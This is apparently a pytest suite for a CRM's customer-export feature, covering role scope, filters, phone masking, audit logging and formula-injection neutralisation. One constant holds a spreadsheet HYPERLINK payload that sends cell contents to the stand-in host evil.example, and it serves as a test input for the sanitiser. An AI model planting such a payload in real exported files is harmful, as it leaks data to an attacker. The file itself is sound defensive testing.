"""Export of the filtered customer list: scope, filters, masking, formula injection, log."""

from __future__ import annotations

import csv
import io
from urllib.parse import quote

import pytest
from openpyxl import load_workbook

from kehu.core.access import visible_customers
from kehu.core.permissions import can_export
from kehu.customers.models import CustomFieldDefinition, Industry, Region
from kehu.customers.services import customer_share_set
from kehu.customers.tests.factories import make_customer
from kehu.customers.validators import mask_mobile
from kehu.dataquality.export import customers_export, neutralise
from kehu.dataquality.models import ExportLog

A_NAME = "上海东方精密机械有限公司"
B_NAME = "杭州西湖智能装备有限公司"
C_NAME = "北京北方重工机械有限公司"
A_MOBILE = "13912345678"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
FORMATS = ["xlsx", "csv"]
ROLES_SEE = {
    "owner": {A_NAME, B_NAME},
    "manager": {A_NAME, B_NAME, C_NAME},
    "outsider": {C_NAME},
    "administrator": {A_NAME, B_NAME, C_NAME},
}


@pytest.fixture
def world(org):
    """A and B belong to the owner (东区), C to the outsider (北区)."""
    a = make_customer(
        owner=org.owner,
        name=A_NAME,
        status="interested",
        industry=Industry.objects.get(code="auto_parts"),
        region=Region.objects.get(code="shanghai"),
        remarks=HYPERLINK,
        decision_maker={"name": "王建国", "title": "采购总监", "mobile": A_MOBILE},
    )
    b = make_customer(owner=org.owner, name=B_NAME, status="prospect")
    c = make_customer(owner=org.outsider, name=C_NAME, status="prospect")
    return a, b, c


def url(fmt: str) -> str:
    return f"/data-quality/export/customers.{fmt}"


def read_rows(content: bytes, fmt: str) -> list[dict[str, str]]:
    """The exported file read back as a list of {header: cell text}."""
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(content), read_only=True).active
        values = [list(row) for row in sheet.iter_rows(values_only=True)]
    else:
        values = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    header, *body = values
    return [
        {h: "" if v is None else str(v) for h, v in zip(header, row, strict=True)} for row in body
    ]


def download(client, user, fmt: str, query: str = "") -> list[dict[str, str]]:
    client.force_login(user)
    response = client.get(url(fmt) + (f"?{query}" if query else ""))
    assert response.status_code == 200
    return read_rows(response.content, fmt)


# --- scope --------------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("role", sorted(ROLES_SEE))
def test_export_holds_exactly_the_customers_the_role_sees(client, org, world, role, fmt):
    # Given customers of the owner and of the outsider
    user = getattr(org, role)
    # When the role exports the unfiltered list
    rows = download(client, user, fmt)
    # Then the file holds exactly what the role may see, and the log counts it
    assert {r["客户名称"] for r in rows} == ROLES_SEE[role]
    assert len(rows) == visible_customers(user).count()
    assert ExportLog.objects.get(user=user).row_count == len(rows)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_outsider_export_contains_none_of_the_owners_customers(client, org, world, fmt):
    a, b, _c = world
    rows = download(client, org.outsider, fmt)
    codes = {r["客户编号"] for r in rows}
    assert a.code not in codes
    assert b.code not in codes
    assert all(A_MOBILE not in "".join(r.values()) for r in rows)


# --- filters ------------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_status_filter_applies_to_the_export(client, org, world, fmt):
    rows = download(client, org.administrator, fmt, "status=prospect")
    assert {r["客户名称"] for r in rows} == {B_NAME, C_NAME}
    assert {r["状态"] for r in rows} == {"潜在客户"}


@pytest.mark.django_db
def test_search_filter_applies_to_the_export(client, org, world):
    rows = download(client, org.administrator, "csv", "q=杭州西湖")
    assert [r["客户名称"] for r in rows] == [B_NAME]


@pytest.mark.django_db
def test_search_cannot_reach_past_the_scope(client, org, world):
    # The outsider searches for the owner's customer by name: nothing comes back
    rows = download(client, org.outsider, "xlsx", "q=上海东方")
    assert rows == []
    assert ExportLog.objects.get(user=org.outsider).row_count == 0


# --- content ------------------------------------------------------------------------------
@pytest.mark.django_db
def test_columns_carry_translated_labels_and_hierarchical_presets(client, org, world):
    a, _b, _c = world
    CustomFieldDefinition.objects.create(
        key="level", label_zh="客户级别", label_en="Level", field_type="text"
    )
    CustomFieldDefinition.objects.create(
        key="retired", label_zh="停用字段", label_en="Retired", field_type="text", is_active=False
    )
    a.custom_fields = {"level": "A级"}
    a.save(update_fields=["custom_fields"])
    rows = download(client, org.owner, "xlsx", "q=上海东方")
    (row,) = rows
    assert row["客户编号"] == a.code
    assert row["客户类型"] == "企业"
    assert row["所属行业"] == "制造业-汽车零部件"
    assert row["省份 / 区域"] == "华东-上海"
    assert row["首次接触时间"] == "2026-09-15"
    assert row["状态"] == "意向客户"
    assert row["负责人"] == "张三"
    assert row["部门"] == "华东销售组"
    assert (row["关键决策人"], row["职位"]) == ("王建国", "采购总监")
    assert row["客户级别"] == "A级"
    assert "停用字段" not in row


@pytest.mark.django_db
def test_headers_follow_the_active_language(client, org, world):
    client.force_login(org.owner)
    response = client.get(url("csv"), HTTP_ACCEPT_LANGUAGE="en")
    rows = read_rows(response.content, "csv")
    assert {r["customer code"] for r in rows} == {world[0].code, world[1].code}
    assert {r["status"] for r in rows} == {"Interested", "Prospect"}


@pytest.mark.django_db
def test_xlsx_has_a_bold_frozen_header_row(client, org, world):
    client.force_login(org.owner)
    content = client.get(url("xlsx")).content
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b is True
    assert sheet["A2"].font.b is not True
    assert sheet.column_dimensions["B"].width >= 30


# --- masking ------------------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_default_export_masks_mobiles_even_for_a_user_who_may_unmask(client, org, world, fmt):
    rows = download(client, org.owner, fmt, "q=上海东方")
    assert [r["手机号"] for r in rows] == [mask_mobile(A_MOBILE)]
    assert mask_mobile(A_MOBILE) == "139****5678"
    assert ExportLog.objects.get().unmasked is False


@pytest.mark.django_db
def test_role_without_unmask_right_gets_masked_mobiles_when_asking_unmasked(client, org, world):
    # Marketing sees every customer but may not unmask any
    rows = download(client, org.marketing, "csv", "unmasked=1")
    text = "".join("".join(r.values()) for r in rows)
    assert A_MOBILE not in text
    assert mask_mobile(A_MOBILE) in text
    assert ExportLog.objects.get(user=org.marketing).unmasked is False


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_unmasked_export_for_allowed_user_shows_number_and_is_logged(client, org, world, fmt):
    rows = download(client, org.owner, fmt, "unmasked=1&q=上海东方")
    assert A_MOBILE in rows[0].values()
    log = ExportLog.objects.get(user=org.owner)
    assert log.unmasked is True
    assert log.filters == {"q": "上海东方"}


@pytest.mark.django_db
def test_unmasked_export_masks_the_rows_the_user_may_not_unmask(client, org, world):
    # Given the teammate sees A read-only (may not unmask it) and owns D (may unmask it)
    a, _b, _c = world
    customer_share_set(customer=a, user=org.teammate, access="read", by=org.owner)
    d = make_customer(
        owner=org.teammate,
        name="苏州工业园区电子有限公司",
        decision_maker={"name": "刘洋", "title": "经理", "mobile": "13700001111"},
    )
    # When the teammate asks for unmasked output
    rows = download(client, org.teammate, "csv", "unmasked=1")
    by_code = {r["客户编号"]: "".join(r.values()) for r in rows}
    # Then D shows its number, A stays masked
    assert set(by_code) == {a.code, d.code}
    assert "13700001111" in by_code[d.code]
    assert A_MOBILE not in by_code[a.code]
    assert mask_mobile(A_MOBILE) in by_code[a.code]
    assert ExportLog.objects.get(user=org.teammate).unmasked is True


# --- formula injection --------------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_formula_cells_are_neutralised(client, org, world, fmt):
    rows = download(client, org.owner, fmt, "q=上海东方")
    assert rows[0]["备注"] == "'" + HYPERLINK


@pytest.mark.django_db
def test_formula_remark_is_not_a_formula_cell_in_xlsx(client, org, world):
    client.force_login(org.owner)
    sheet = load_workbook(io.BytesIO(client.get(url("xlsx")).content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("text", ["=1+1", "+86", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_each_dangerous_start(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["上海", "a=b", "", 12, None])
def test_neutralise_leaves_safe_values_alone(value):
    assert neutralise(value) == value


# --- csv encoding -------------------------------------------------------------------------
@pytest.mark.django_db
def test_csv_starts_with_a_bom_and_chinese_text_round_trips(client, org, world):
    client.force_login(org.owner)
    content = client.get(url("csv")).content
    assert content.startswith(b"\xef\xbb\xbf")
    assert not content[3:].startswith(b"\xef\xbb\xbf")
    rows = read_rows(content, "csv")
    assert {r["客户名称"] for r in rows} == {A_NAME, B_NAME}


# --- log, download, access ----------------------------------------------------------------
@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_every_export_writes_one_log_with_count_filter_and_ip(client, org, world, fmt):
    client.force_login(org.administrator)
    client.get(url(fmt) + "?status=prospect&status=interested&q=&page=2", REMOTE_ADDR="10.1.2.3")
    log = ExportLog.objects.get()
    assert log.user == org.administrator
    assert log.file_format == fmt
    assert log.row_count == 3
    assert log.filters == {"status": ["prospect", "interested"]}
    assert log.ip_address == "10.1.2.3"
    assert log.unmasked is False


@pytest.mark.django_db
def test_export_function_returns_content_filename_and_count(org, world):
    content, filename, count = customers_export(
        user=org.outsider, params={"status": ["prospect"]}, file_format="csv", ip_address=None
    )
    assert count == 1
    assert filename.endswith(".csv")
    assert [r["客户名称"] for r in read_rows(content, "csv")] == [C_NAME]
    assert ExportLog.objects.get().filters == {"status": "prospect"}


@pytest.mark.django_db
def test_download_is_an_attachment_with_an_encoded_chinese_filename(client, owner):
    client.force_login(owner)
    response = client.get(url("xlsx"))
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=utf-8''{quote('客户_')}" in disposition
    assert disposition.endswith(".xlsx")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")


@pytest.mark.django_db
def test_unknown_format_is_not_found(client, owner):
    client.force_login(owner)
    assert client.get(url("pdf")).status_code == 404
    assert not ExportLog.objects.exists()


@pytest.mark.django_db
def test_anonymous_is_redirected_to_login(client):
    response = client.get(url("csv"))
    assert response.status_code == 302
    assert "/login" in response["Location"]
    assert not ExportLog.objects.exists()


@pytest.mark.django_db
def test_only_active_users_may_export(owner):
    assert can_export(owner)
    owner.is_active = False
    assert not can_export(owner)


@pytest.mark.django_db
def test_list_page_offers_export_links_with_the_current_filter(client, owner):
    client.force_login(owner)
    html = client.get("/customers/?status=prospect&q=abc").content.decode()
    assert 'href="/data-quality/export/customers.xlsx?status=prospect&amp;q=abc"' in html
    assert 'href="/data-quality/export/customers.csv?status=prospect&amp;q=abc"' in html


# --- API ----------------------------------------------------------------------------------
API_URL = "/api/v1/customers/export/"


def api_client(user):
    from rest_framework.test import APIClient

    client = APIClient()
    client.force_authenticate(user)
    return client


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", FORMATS)
def test_api_export_applies_scope_and_filters_and_logs(org, world, fmt):
    response = api_client(org.manager).get(API_URL, {"format": fmt, "status": "prospect"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    rows = read_rows(response.content, fmt)
    assert {r["客户名称"] for r in rows} == {B_NAME, C_NAME}
    log = ExportLog.objects.get()
    assert (log.user, log.file_format, log.row_count) == (org.manager, fmt, 2)
    assert log.filters == {"status": "prospect"}


@pytest.mark.django_db
def test_api_export_of_the_outsider_holds_only_their_customers(org, world):
    response = api_client(org.outsider).get(API_URL, {"format": "csv", "unmasked": "1"})
    assert [r["客户名称"] for r in read_rows(response.content, "csv")] == [C_NAME]


@pytest.mark.django_db
def test_api_export_defaults_to_xlsx_and_rejects_other_formats(org, world):
    client = api_client(org.owner)
    default = client.get(API_URL)
    assert default.status_code == 200
    assert len(read_rows(default.content, "xlsx")) == 2
    assert client.get(API_URL, {"format": "json"}).status_code == 400
    assert client.get(API_URL, {"format": "pdf"}).status_code == 404
    assert ExportLog.objects.count() == 1


@pytest.mark.django_db
def test_api_export_needs_authentication(world):
    from rest_framework.test import APIClient

    assert APIClient().get(API_URL, {"format": "csv"}).status_code in (401, 403)
    assert not ExportLog.objects.exists()


@pytest.mark.django_db
def test_api_export_is_in_the_openapi_schema(client):
    schema = client.get("/api/schema/", {"format": "json"}).json()
    operation = schema["paths"]["/api/v1/customers/export/"]["get"]
    names = {p["name"] for p in operation["parameters"]}
    assert {"format", "unmasked"} <= names


@pytest.mark.django_db
def test_export_reads_in_chunks_without_losing_rows_or_decision_makers(
    org, world, monkeypatch, django_assert_max_num_queries
):
    # Given chunks of 2 rows and 5 customers the owner sees
    monkeypatch.setattr("kehu.dataquality.export.CHUNK_SIZE", 2)
    for n in range(3):
        make_customer(
            owner=org.owner,
            name=f"南京第{n + 1}精密机械有限公司",
            decision_maker={"name": f"联系人{n}", "title": "经理", "mobile": f"1370000000{n}"},
        )
    # When the owner exports (masked: no per-row permission query)
    with django_assert_max_num_queries(20):
        content, _name, count = customers_export(
            user=org.owner, params={}, file_format="csv", ip_address=None
        )
    # Then every row is there with its decision maker
    rows = read_rows(content, "csv")
    assert count == len(rows) == 5
    assert all(r["关键决策人"] for r in rows)
    assert {r["客户名称"] for r in rows} >= {A_NAME, B_NAME, "南京第3精密机械有限公司"}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "role", ["owner", "teammate", "manager", "outsider", "administrator", "service", "marketing"]
)
def test_batch_unmask_check_agrees_with_can_unmask_for_every_role(org, world, role):
    from kehu.core.permissions import can_unmask, unmaskable_customer_ids

    a, _b, _c = world
    customer_share_set(customer=a, user=org.teammate, access="read", by=org.owner)
    user = getattr(org, role)
    visible = list(visible_customers(user))
    allowed = unmaskable_customer_ids(user, [c.pk for c in visible])
    assert allowed == {c.pk for c in visible if can_unmask(user, c)}
